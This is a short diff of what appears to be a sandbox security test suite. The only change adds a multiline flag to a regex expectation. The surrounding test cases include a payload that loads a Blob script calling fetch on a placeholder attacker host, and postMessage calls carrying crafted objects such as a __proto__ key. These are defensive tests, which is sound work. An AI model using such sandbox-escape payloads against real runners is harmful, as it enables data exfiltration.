@@ -92,7 +92,7 @@ export const attempts = [
     'policy-import-scripts-blob',
     `importScripts(URL.createObjectURL(new Blob(['fetch("{{attacker}}").catch(() => {})']))); await new Promise((resolve) => setTimeout(resolve, 50))`,
   ),
-  bare('policy-origin', `return self.origin + ' ' + location.origin`, { expect: { matches: /^ended: null null/ } }),
+  bare('policy-origin', `return self.origin + ' ' + location.origin`, { expect: { matches: /^ended: null null/m } }),
   bare(
     'policy-post-to-frame',
     `for (const data of [{ type: 'gone', id: 1 }, { snapshot: 1 }, { __proto__: 1 }, null, 'viva-runner-port']) postMessage(data)`,
